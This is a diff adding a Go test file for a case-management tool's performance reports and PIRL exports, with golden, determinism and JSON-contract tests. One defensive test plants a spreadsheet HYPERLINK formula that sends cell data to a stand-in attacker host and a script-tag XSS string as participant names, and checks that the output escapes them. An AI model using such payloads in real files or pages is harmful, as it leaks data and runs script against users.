@@ -1,0 +1,212 @@
+package report
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/caseplan/caseplan/pkg/calendar"
+	"github.com/caseplan/caseplan/pkg/casefile"
+	"github.com/caseplan/caseplan/pkg/store"
+)
+
+// The performance report and the PIRL export are golden-tested on the
+// fixture of pkg/performance (../performance/testdata/store), whose
+// figures performance_test.go there works out by hand: program year 2025,
+// as of 2025-11-15 (day A there, while the year is under way, so every
+// kind of row shows: not yet in the cohort, missing and overdue), and the
+// PIRL export as of 2026-09-30 (day B). Regenerate with go test
+// ./pkg/report -update, and read the diff.
+var (
+	perfDayA = time.Date(2025, 11, 15, 0, 0, 0, 0, time.UTC)
+	perfDayB = time.Date(2026, 9, 30, 0, 0, 0, 0, time.UTC)
+)
+
+func perfSnapshot(t *testing.T) *casefile.Snapshot {
+	t.Helper()
+	src, err := store.NewWorkTree(filepath.Join("..", "performance", "testdata", "store"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	snap, _, err := store.Load(src, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return snap
+}
+
+func perfPeriod(t *testing.T, year, quarter int) calendar.ReportPeriod {
+	t.Helper()
+	p, err := calendar.NewReportPeriod(year, quarter)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+func TestPerformanceGolden(t *testing.T) {
+	snap := perfSnapshot(t)
+	r := BuildPerformance(snap, perfPeriod(t, 2025, 0), perfDayA, fixtureSource, false)
+	ext := map[string]string{"text": "txt", "md": "md", "html": "html", "csv": "csv", "json": "json"}
+	for _, format := range Formats {
+		t.Run(format, func(t *testing.T) {
+			w, err := NewWriter(format)
+			if err != nil {
+				t.Fatal(err)
+			}
+			var b bytes.Buffer
+			if err := w.Performance(&b, r); err != nil {
+				t.Fatal(err)
+			}
+			golden(t, filepath.Join("testdata", "golden", "performance."+ext[format]), b.Bytes())
+		})
+	}
+	// The quarterly report names its quarter and counts its own cohorts.
+	q := BuildPerformance(snap, perfPeriod(t, 2025, 2), perfDayB, fixtureSource, false)
+	var b bytes.Buffer
+	if err := (textWriter{}).Performance(&b, q); err != nil {
+		t.Fatal(err)
+	}
+	golden(t, filepath.Join("testdata", "golden", "performance-q2.txt"), b.Bytes())
+
+	e := BuildPIRL(snap, perfPeriod(t, 2025, 0), perfDayB, fixtureSource)
+	for _, format := range PIRLFormats {
+		t.Run("pirl."+format, func(t *testing.T) {
+			var b bytes.Buffer
+			if err := WritePIRL(&b, format, e); err != nil {
+				t.Fatal(err)
+			}
+			golden(t, filepath.Join("testdata", "golden", "pirl."+format), b.Bytes())
+		})
+	}
+	if err := WritePIRL(&b, "xlsx", e); err == nil {
+		t.Error("WritePIRL(xlsx): no error")
+	}
+}
+
+// The same records give the same report, byte for byte, however often it
+// is made: nothing in it depends on the clock, on map order or on the
+// order the cases were read in.
+func TestPerformanceIsDeterministic(t *testing.T) {
+	render := func(snap *casefile.Snapshot) []byte {
+		var b bytes.Buffer
+		r := BuildPerformance(snap, perfPeriod(t, 2025, 0), perfDayA, fixtureSource, true)
+		for _, format := range Formats {
+			w, _ := NewWriter(format)
+			if err := w.Performance(&b, r); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if err := WritePIRL(&b, "csv", BuildPIRL(snap, perfPeriod(t, 2025, 0), perfDayA, fixtureSource)); err != nil {
+			t.Fatal(err)
+		}
+		return b.Bytes()
+	}
+	first := render(perfSnapshot(t))
+	for range 5 {
+		snap := perfSnapshot(t)
+		// Reversed: a report must not depend on the order cases come in.
+		for i, j := 0, len(snap.Cases)-1; i < j; i, j = i+1, j-1 {
+			snap.Cases[i], snap.Cases[j] = snap.Cases[j], snap.Cases[i]
+		}
+		if !bytes.Equal(render(snap), first) {
+			t.Fatal("the same records gave another report")
+		}
+	}
+}
+
+// A participant's name written to attack a spreadsheet or a page does
+// neither in the performance report; the PIRL export has no names at all.
+func TestPerformanceHostileNames(t *testing.T) {
+	snap := perfSnapshot(t)
+	snap.Case("E05").Intake.Participant.Name = `=HYPERLINK("https://evil.example/?x="&A1,"open")`
+	snap.Case("E08").Intake.Participant.Name = "<script>alert(1)</script> | *bold*"
+	r := BuildPerformance(snap, perfPeriod(t, 2025, 0), perfDayA, fixtureSource, true)
+
+	var b bytes.Buffer
+	if err := (csvWriter{}).Performance(&b, r); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !number.MatchString(cell) {
+				t.Errorf("cell %q can run as a formula", cell)
+			}
+		}
+	}
+	b.Reset()
+	if err := (htmlWriter{}).Performance(&b, r); err != nil {
+		t.Fatal(err)
+	}
+	page := b.String()
+	if n := strings.Count(page, "<svg "); n != 1 {
+		t.Errorf("%d inline SVG charts, want 1", n)
+	}
+	for _, banned := range []string{"<script", "<link", "<img", "<iframe", "@import"} {
+		if strings.Contains(page, banned) {
+			t.Errorf("the page contains %s", banned)
+		}
+	}
+	if loc := externalRef.FindStringIndex(page); loc != nil {
+		t.Errorf("the page refers to something outside it: %q", page[loc[0]:loc[1]])
+	}
+	b.Reset()
+	if err := (markdownWriter{}).Performance(&b, r); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(b.String(), `&lt;script&gt;alert(1)&lt;/script&gt; \| \*bold\*`) {
+		t.Error("a participant's name is not escaped in the Markdown")
+	}
+	b.Reset()
+	if err := WritePIRL(&b, "csv", BuildPIRL(snap, perfPeriod(t, 2025, 0), perfDayA, fixtureSource)); err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(b.String(), "HYPERLINK") || strings.Contains(b.String(), "alert(") {
+		t.Error("the PIRL export holds a participant's name")
+	}
+}
+
+// The JSON contract: the keys caseplan report performance -o json
+// documents.
+func TestPerformanceJSONContract(t *testing.T) {
+	var b bytes.Buffer
+	r := BuildPerformance(perfSnapshot(t), perfPeriod(t, 2025, 0), perfDayA, fixtureSource, false)
+	if err := (jsonWriter{}).Performance(&b, r); err != nil {
+		t.Fatal(err)
+	}
+	var doc map[string]json.RawMessage
+	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
+		t.Fatal(err)
+	}
+	for _, k := range []string{"report", "program_year", "quarter", "period", "as_of", "organization", "commit", "committed", "participants", "indicators"} {
+		if _, ok := doc[k]; !ok {
+			t.Errorf("no %q", k)
+		}
+	}
+	var inds []map[string]json.RawMessage
+	if err := json.Unmarshal(doc["indicators"], &inds); err != nil {
+		t.Fatal(err)
+	}
+	var keys []string
+	for _, ind := range inds {
+		var key string
+		_ = json.Unmarshal(ind["key"], &key)
+		keys = append(keys, key)
+		for _, k := range []string{"key", "name", "kind", "source", "cohort", "measured", "numerator", "denominator", "rate", "median", "not_yet", "cases", "missing"} {
+			if _, ok := ind[k]; !ok {
+				t.Errorf("%s: no %q", key, k)
+			}
+		}
+	}
+	if got := strings.Join(keys, " "); got != "employment_q2 employment_q4 median_earnings_q2 credential_attainment measurable_skill_gains retention_same_employer" {
+		t.Errorf("indicators %s", got)
+	}
+}
